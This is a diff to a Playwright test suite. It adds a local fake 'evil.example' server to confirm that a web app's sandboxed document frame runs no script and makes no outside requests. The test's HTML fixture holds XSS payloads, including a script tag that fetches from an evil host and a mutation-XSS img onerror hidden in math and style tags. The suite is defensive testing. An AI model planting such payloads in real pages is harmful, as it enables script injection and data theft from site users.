@@ -8,9 +8,11 @@ import re
 import shutil
 import signal
 import socket
+import socketserver
 import struct
 import subprocess
 import sys
+import threading
 import zlib
 from collections import Counter
 from collections.abc import Callable, Iterator
@@ -50,11 +52,35 @@ HTML = """<h1>A lamp</h1><script>top.document.title = 'ran'; fetch('http://evil.
 <math><mtext></p><style><img src=x onerror="top.document.title='ran'"></style></mtext></math>"""
 
 
+class Site(socketserver.ThreadingTCPServer):
+    """What evil.example receives: browsers also report requests that a policy then stops."""
+
+    daemon_threads = True
+
+    def __init__(self) -> None:
+        self.requests: list[bytes] = []
+        super().__init__(("127.0.0.1", 0), socketserver.StreamRequestHandler)
+
+    def finish_request(self, request: Any, client_address: Any) -> None:
+        if request_line := request.recv(65_536).partition(b"\r\n")[0]:
+            self.requests.append(request_line)
+            request.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+
+
 @pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
+def evil() -> Iterator[Site]:
+    with Site() as site:
+        threading.Thread(target=site.serve_forever, daemon=True).start()
+        yield site
+        site.shutdown()
+
+
+@pytest.fixture(scope="module")
+def browser(evil: Site) -> Iterator[Any]:
+    rules = f"--host-resolver-rules=MAP evil.example 127.0.0.1:{evil.server_address[1]}"
     with sync_api.sync_playwright() as playwright:
         made = playwright.chromium.launch(
-            executable_path=BROWSER, args=["--no-sandbox"], timeout=PATIENCE
+            executable_path=BROWSER, args=["--no-sandbox", rules], timeout=PATIENCE
         )
         yield made
         made.close()
@@ -490,12 +516,10 @@ def test_nothing_in_a_document_runs_loads_or_leads_away(browser: Any, serve: Ser
     assert server.judged() == {"1-000": 1}
 
 
-def test_the_frame_alone_is_safe(browser: Any, serve: Serve) -> None:
+def test_the_frame_alone_is_safe(browser: Any, serve: Serve, evil: Site) -> None:
     """Had the page not cleaned a document, its frame would still run and load nothing."""
     server = serve(2)
     page = opened(browser, server.links["ann"])
-    asked: list[str] = []
-    page.on("request", lambda request: asked.append(request.url))
     page.evaluate(
         """html => { const frame = framed("", [], ""); frame.srcdoc += html; document.body.append(frame); }""",
         HTML,
@@ -503,7 +527,9 @@ def test_the_frame_alone_is_safe(browser: Any, serve: Serve) -> None:
     sync_api.expect(page.frame_locator("iframe").locator("h1")).to_have_text("A lamp")
     page.wait_for_timeout(500)
     assert page.title() == "Lighthouses: judging"
-    assert not [url for url in asked if "evil" in url]
+    assert evil.requests == []
+    page.goto("http://evil.example/seen")  # what is not stopped arrives
+    assert evil.requests.pop(0) == b"GET /seen HTTP/1.1"
 
 
 def test_pages_of_other_sites_are_turned_away(serve: Serve) -> None:
